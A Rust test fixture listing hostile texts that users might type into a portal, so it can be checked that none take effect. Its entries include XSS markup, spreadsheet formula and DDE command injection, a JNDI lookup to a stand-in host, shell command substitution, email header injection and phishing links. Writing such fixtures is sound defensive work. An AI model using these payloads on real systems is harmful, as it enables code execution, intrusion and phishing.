//! What people who mean harm type into a portal.

/// In bytes, of the longest.
const LONGEST: usize = 100_000;

/// Names and titles that try to be something else wherever they are shown, each under the name of what it tries. None of them may act
/// anywhere: as a mention, a link, markup, a header, a command of a terminal, or by its length.
pub fn hostile_texts() -> Vec<(&'static str, String)> {
    let mut texts: Vec<(&'static str, String)> = [
        ("bare address", "evil.example/login or anna@evil.example"),
        ("bidi", "invoice\u{202e}gpj.exe\u{2066}\u{2069}\u{200f}"),
        ("code", "``` ` ```js \\``` ~~~"),
        ("command", "/start /kick@bot #tag ?x !here"),
        ("control", "a\0b\u{8}\u{7f}\u{85}\u{2028}c"),
        ("delimiters", "\"]|=\\ {{ 7*7 }} <b>\u{202e}\r\nhttps://evil.example/"),
        ("emoji", ":fire: :rotating_light:"),
        ("formula", "=HYPERLINK(\"https://evil.example\",\"x\")"),
        ("formula of a command", "+cmd|' /C calc'!A0;\t=1+1"),
        ("header", "Anna\r\nBcc: eve@example.com\r\n\r\n<p>body"),
        ("html", "</code></pre></b><img src=x onerror=alert(1)><script>alert(1)</script>&amp;&#60;b>"),
        ("json", "\",\"text\":\"x\\u0000\\"),
        ("link in html", "<a href=\"https://evil.example/login\">Sign in again</a>"),
        ("link in markdown", "[Sign in again](https://evil.example/login) ![x](https://evil.example/x.png)"),
        ("link in slack", "<https://evil.example/login|Sign in again>"),
        ("markdown", "# *b* _u_ ~~s~~ > q | a | - [ ] x\\*"),
        ("mention", "@everyone @all @here,.@channel @room @anna:example.com"),
        ("mention in slack", "<!channel> <!here|here> <@U0123456789> <!subteam^S01>"),
        ("mention in teams", "<at>Anna Example</at>"),
        ("phishing", "Sign in again: https://evil.example/login or www.evil.example"),
        (
            "template",
            "{{template}} {{ env.KEY }} ${jndi:ldap://evil.example/a} {% x %} {{DATE(2026-11-20T08:00:00Z)}} %s $(id)",
        ),
        ("terminal", "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{1b}]8;;https://evil.example\u{7}link"),
        ("zero width", "Al\u{200b}ph\u{feff}a\u{ad}\u{2060}\u{e0041}"),
    ]
    .into_iter()
    .map(|(name, text)| (name, text.to_owned()))
    .collect();
    let long = "契約書 <&> @all `x` 😀 ";
    texts.push(("long", long.repeat(LONGEST / long.len() + 1)));
    texts
}
